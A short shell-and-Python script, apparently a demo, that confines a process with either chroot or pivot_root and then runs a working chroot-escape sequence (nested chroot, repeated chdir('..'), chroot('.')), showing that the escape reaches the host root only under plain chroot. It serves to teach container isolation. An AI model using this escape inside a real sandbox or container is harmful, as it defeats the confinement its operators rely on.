#!/bin/sh
# jail.sh chroot|pivot_root ROOTFS: put one process in ROOTFS the way a runtime could, then let it
# try the classic chroot escape, and print what it sees at / before and after.
#
#   chroot:     chroot(ROOTFS) and chdir("/"): only path lookup changes; every mount of the host
#               is still in the process's mount namespace, just out of reach of "/..".
#   pivot_root: a new mount namespace, ROOTFS bind-mounted onto itself, pivot_root(".", "old"),
#               then umount2("old", MNT_DETACH): the host's root is no longer in the namespace.
#
# The escape (root with CAP_SYS_CHROOT, as in a default container): chroot() into a subdirectory
# WITHOUT changing the working directory, which is therefore outside the new root, where ".." is
# not stopped; walk ".." up to the top, chroot(".") there.
exec python3 - "$@" <<'PY'
import ctypes, os, sys

how, rootfs = sys.argv[1], sys.argv[2]
libc = ctypes.CDLL(None, use_errno=True)

def check(ret, what):
    if ret != 0:
        sys.exit(f"{what}: {os.strerror(ctypes.get_errno())}")

def seen(when):
    inside = os.path.exists("/HANDMADE")   # a file only the hand-made rootfs has
    print(f"{when:<14} / is {'the hand-made rootfs' if inside else 'the HOST root'}; "
          f"{rootfs} {'is visible from here' if os.path.isdir(rootfs) else 'does not exist here'}")

if how == "chroot":
    os.chroot(rootfs)
    os.chdir("/")
elif how == "pivot_root":
    CLONE_NEWNS, MS_REC, MS_PRIVATE, MS_BIND, MNT_DETACH = 0x20000, 0x4000, 0x40000, 0x1000, 2
    SYS_pivot_root = {"x86_64": 155, "aarch64": 41}[os.uname().machine]
    check(libc.unshare(CLONE_NEWNS), "unshare(CLONE_NEWNS)")
    check(libc.mount(None, b"/", None, MS_REC | MS_PRIVATE, None), "mount --make-rprivate /")
    check(libc.mount(rootfs.encode(), rootfs.encode(), None, MS_BIND | MS_REC, None), "mount --bind")
    os.chdir(rootfs)
    os.makedirs("old-root", exist_ok=True)
    check(libc.syscall(SYS_pivot_root, b".", b"old-root"), "pivot_root")
    os.chdir("/")
    check(libc.umount2(b"/old-root", MNT_DETACH), "umount2(old-root)")
    os.rmdir("/old-root")
else:
    sys.exit("usage: jail.sh chroot|pivot_root ROOTFS")
seen(f"{how}:")

os.makedirs("/.escape", exist_ok=True)
os.chroot("/.escape")          # the new root is below us: our working directory is outside it
for _ in range(64):
    os.chdir("..")             # nothing stops ".." outside the root
os.chroot(".")                 # whatever / of the mount namespace we reached: our root now
seen("after escape:")
PY
